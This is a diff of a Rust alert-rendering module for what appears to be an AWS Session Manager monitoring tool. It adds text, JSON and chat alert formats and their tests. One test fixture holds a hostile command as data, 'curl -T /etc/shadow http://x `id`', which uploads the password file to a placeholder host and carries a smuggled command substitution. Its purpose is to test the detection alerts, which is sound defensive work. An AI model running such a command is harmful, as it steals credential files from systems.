@@ -1,13 +1,17 @@
 //! Alerts for on-call: what is sent through the notifier, rendered for people and for filters.
 
-use crate::identity::Principal;
+mod chat;
+mod facts;
+mod json;
+mod text;
+
 use crate::policy::Severity;
 use crate::session::{SessionRecord, TerminationOutcome};
+use facts::Facts;
 use jiff::Timestamp;
 use jiff::tz::TimeZone;
 use serde::Serialize;
 use std::collections::BTreeMap;
-use std::fmt::Write;
 
 /// SNS rejects subjects of 100 characters or more, and its API reference asks for ASCII
 /// without line breaks or control characters: a rejected subject would lose the alert.
@@ -44,6 +48,20 @@ pub enum ActionTaken {
 }
 
 impl ActionTaken {
+    /// The `action` message attribute: what a subscription filter can tell apart.
+    pub fn code(&self) -> &'static str {
+        match self {
+            ActionTaken::AlertOnly => "alert",
+            ActionTaken::Exempt => "exempt",
+            ActionTaken::Termination(outcome, _) => match outcome {
+                TerminationOutcome::Terminated => "terminated",
+                TerminationOutcome::AlreadyEnded => "already_ended",
+                TerminationOutcome::WouldTerminate => "would_terminate",
+                TerminationOutcome::Failed => "terminate_failed",
+            },
+        }
+    }
+
     fn describe(&self) -> String {
         match self {
             ActionTaken::AlertOnly => "alert only (configured action: alert)".to_string(),
@@ -68,6 +86,37 @@ impl ActionTaken {
     }
 }
 
+/// How alert messages are written (`WARDEN_ALERT_FORMAT`).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub enum AlertFormat {
+    /// For e-mail and people: a summary line, the fields, then links.
+    #[default]
+    Text,
+    /// A documented JSON object (`docs/alerts.md`, `schema_version` 1) for pipelines and SIEMs.
+    Json,
+    /// The custom-notification JSON that AWS chat integrations take from SNS.
+    Chat,
+}
+
+impl AlertFormat {
+    pub fn parse(value: &str) -> Option<Self> {
+        match value.trim() {
+            "text" => Some(AlertFormat::Text),
+            "json" => Some(AlertFormat::Json),
+            "chat" => Some(AlertFormat::Chat),
+            _ => None,
+        }
+    }
+
+    pub fn as_str(self) -> &'static str {
+        match self {
+            AlertFormat::Text => "text",
+            AlertFormat::Json => "json",
+            AlertFormat::Chat => "chat",
+        }
+    }
+}
+
 /// Everything an alert about one risk on one session needs.
 pub struct AlertContext<'a> {
     pub session: &'a SessionRecord,
@@ -82,123 +131,45 @@ pub struct AlertContext<'a> {
     /// More labelled lines after the reason, such as the command that matched.
     pub extra: Vec<(&'static str, String)>,
     pub action: ActionTaken,
+    /// The CloudTrail event behind the alert; the session's start event when None.
     pub event_id: Option<&'a str>,
     pub local_zone: &'a TimeZone,
+    pub format: AlertFormat,
 }
 
 pub fn render(ctx: &AlertContext<'_>) -> Alert {
-    let s = ctx.session;
-    // A transcript can arrive before its session's StartSession: its stream records name the
-    // owner, so the alert says who it is rather than "unknown principal".
-    let from_transcript = match (&s.principal, &s.transcript) {
-        (None, Some(seen)) => seen.owner_arn.as_deref().map(Principal::from_arn),
-        _ => None,
-    };
-    let principal = s.principal.as_ref().or(from_transcript.as_ref());
-    let who = principal
-        .map(|p| p.display_name.as_str())
-        .unwrap_or("unknown principal");
-    let target = s.target.as_deref().unwrap_or("unknown target");
+    let facts = Facts::gather(ctx);
     let subject = sns_subject(
         &format!(
-            "[{}] {}: {who} on {target}",
+            "[{}] {}: {} on {}",
             ctx.severity.as_str().to_uppercase(),
-            ctx.title
+            ctx.title,
+            facts.who,
+            facts.instance
         ),
         MAX_SUBJECT_CHARS,
     );
-    let mut body = String::new();
-    let line = |body: &mut String, label: &str, value: &str| {
-        let _ = writeln!(body, "{label:<14}{value}");
+    let body = match ctx.format {
+        AlertFormat::Text => text::body(&facts),
+        AlertFormat::Json => json::body(&facts),
+        AlertFormat::Chat => chat::body(&facts),
     };
-    let _ = writeln!(body, "{}\n", ctx.title);
-    line(&mut body, "Why:", ctx.why);
-    for (label, value) in &ctx.extra {
-        line(&mut body, label, &clip(value, MAX_EXTRA_CHARS));
-    }
-    line(&mut body, "Action:", &ctx.action.describe());
-    body.push('\n');
-    line(&mut body, "Who:", who);
-    if let Some(p) = principal {
-        line(
-            &mut body,
-            "Principal:",
-            p.arn.as_deref().unwrap_or("(no ARN)"),
-        );
-        if from_transcript.is_some() {
-            line(
-                &mut body,
-                "Identity:",
-                &format!(
-                    "{} (from the transcript: StartSession not recorded yet)",
-                    p.identity_type
-                ),
-            );
-        } else {
-            line(&mut body, "Identity:", &p.identity_type);
-        }
-    }
-    line(&mut body, "MFA:", s.mfa.as_str());
-    line(
-        &mut body,
-        "Source IP:",
-        s.source_ip.as_deref().unwrap_or("unknown"),
-    );
-    line(
-        &mut body,
-        "User agent:",
-        s.user_agent.as_deref().unwrap_or("unknown"),
-    );
-    line(&mut body, "Instance:", target);
-    line(
-        &mut body,
-        "Document:",
-        s.document.as_deref().unwrap_or("unknown"),
-    );
-    line(&mut body, "Session:", &s.session_id);
-    line(&mut body, "State:", s.state.as_str());
-    let account = s.account.as_deref().unwrap_or("unknown");
-    let region = s.region.as_deref().unwrap_or("unknown");
-    line(&mut body, "Account:", &format!("{account} ({region})"));
-    if let Some(started) = s.started_at {
-        line(&mut body, "Started:", &format_time(started, ctx.local_zone));
-    }
-    if let Some(ended) = s.ended_at {
-        line(&mut body, "Ended:", &format_time(ended, ctx.local_zone));
-    }
-    if let Some(region) = s.region.as_deref() {
-        body.push('\n');
-        line(
-            &mut body,
-            "Sessions:",
-            &format!(
-                "https://{region}.console.aws.amazon.com/systems-manager/session-manager/sessions?region={region}"
-            ),
-        );
-        if let Some(event_id) = ctx.event_id {
-            line(
-                &mut body,
-                "CloudTrail:",
-                &format!(
-                    "https://{region}.console.aws.amazon.com/cloudtrail/home?region={region}#/events/{event_id}"
-                ),
-            );
-        }
-    }
+    let s = ctx.session;
     let mut attributes = BTreeMap::from([
         ("severity".to_string(), ctx.severity.as_str().to_string()),
         ("kind".to_string(), ctx.kind.to_string()),
         ("session_id".to_string(), s.session_id.clone()),
+        ("action".to_string(), facts.action_code.to_string()),
         // The same for every delivery of this alert: subscribers drop repeats by it (SNS
         // standard topics deliver at least once, and a publish whose reply was lost is sent
         // again by the retry).
-        (
-            "alert_id".to_string(),
-            format!("{}/{}", s.session_id, ctx.alert_key),
-        ),
+        ("alert_id".to_string(), facts.alert_id.clone()),
     ]);
     if let Some(rule) = ctx.rule_id {
         attributes.insert("rule_id".to_string(), rule.to_string());
+    }
+    if let Some(account) = s.account.as_deref() {
+        attributes.insert("account".to_string(), account.to_string());
     }
     Alert {
         key: AlertKey {
@@ -282,6 +253,7 @@ mod tests {
             action,
             event_id: Some("ev-1"),
             local_zone: &zone,
+            format: AlertFormat::Text,
         })
     }
 
@@ -346,6 +318,7 @@ mod tests {
             action: ActionTaken::AlertOnly,
             event_id: None,
             local_zone: &TimeZone::UTC,
+            format: AlertFormat::Text,
         })
     }
 
@@ -420,6 +393,97 @@ mod tests {
             bare.subject.contains("unknown principal"),
             "{}",
             bare.subject
+        );
+    }
+
+    fn alert_in(format: AlertFormat) -> Alert {
+        let mut s = session("03-start-role-without-mfa.json");
+        s.note_transcript(&crate::session::TranscriptSeen {
+            log_group: Some("/aws/ssm/sessions".into()),
+            ..Default::default()
+        });
+        render(&AlertContext {
+            session: &s,
+            kind: "finding",
+            alert_key: "finding:ev-9:exfil.curl_upload",
+            severity: Severity::Critical,
+            rule_id: Some("exfil.curl_upload"),
+            title: "File sent to a remote host",
+            why: "rule exfil.curl_upload matched a command typed in the session",
+            extra: vec![("Command:", "curl -T /etc/shadow http://x `id`".to_string())],
+            action: ActionTaken::Termination(TerminationOutcome::Terminated, None),
+            event_id: None,
+            local_zone: &TimeZone::UTC,
+            format,
+        })
+    }
+
+    #[test]
+    fn attributes_carry_the_action_and_the_account() {
+        let alert = alert_in(AlertFormat::Text);
+        assert_eq!(alert.attributes["action"], "terminated");
+        assert_eq!(alert.attributes["account"], "111122223333");
+        assert_eq!(alert.attributes["rule_id"], "exfil.curl_upload");
+    }
+
+    #[test]
+    fn text_links_the_session_history_the_transcript_and_the_start_event() {
+        let body = alert_in(AlertFormat::Text).body;
+        assert!(body.contains("Sessions:     https://"), "{body}");
+        assert!(
+            body.contains("log-group/$252Faws$252Fssm$252Fsessions/log-events/"),
+            "{body}"
+        );
+        assert!(body.contains("CloudTrail:   https://"), "{body}");
+    }
+
+    #[test]
+    fn json_is_one_object_with_schema_version_1() {
+        let alert = alert_in(AlertFormat::Json);
+        let v: serde_json::Value = serde_json::from_str(&alert.body).unwrap();
+        assert_eq!(v["schema_version"], 1);
+        assert_eq!(v["severity"], "critical");
+        assert_eq!(v["rule_id"], "exfil.curl_upload");
+        assert_eq!(v["action"]["code"], "terminated");
+        assert_eq!(v["details"][0]["label"], "Command");
+        assert_eq!(
+            v["details"][0]["value"],
+            "curl -T /etc/shadow http://x `id`"
+        );
+        assert_eq!(v["session"]["principal"]["name"], "bob");
+        assert!(
+            v["links"]["transcript"]
+                .as_str()
+                .unwrap()
+                .contains("cloudwatch")
+        );
+    }
+
+    #[test]
+    fn chat_is_a_custom_notification_with_the_command_as_code() {
+        let alert = alert_in(AlertFormat::Chat);
+        let v: serde_json::Value = serde_json::from_str(&alert.body).unwrap();
+        assert_eq!(v["version"], "1.0");
+        assert_eq!(v["source"], "custom");
+        assert_eq!(v["content"]["textType"], "client-markdown");
+        assert_eq!(
+            v["content"]["title"],
+            "🔴 [CRITICAL] File sent to a remote host"
+        );
+        let description = v["content"]["description"].as_str().unwrap();
+        assert!(
+            description.contains("```\ncurl -T /etc/shadow http://x `id`\n```"),
+            "{description}"
+        );
+        assert_eq!(
+            v["metadata"]["threadId"],
+            v["metadata"]["relatedResources"][1]
+        );
+        assert!(
+            v["content"]["keywords"]
+                .as_array()
+                .unwrap()
+                .contains(&"exfil.curl_upload".into())
         );
     }
 
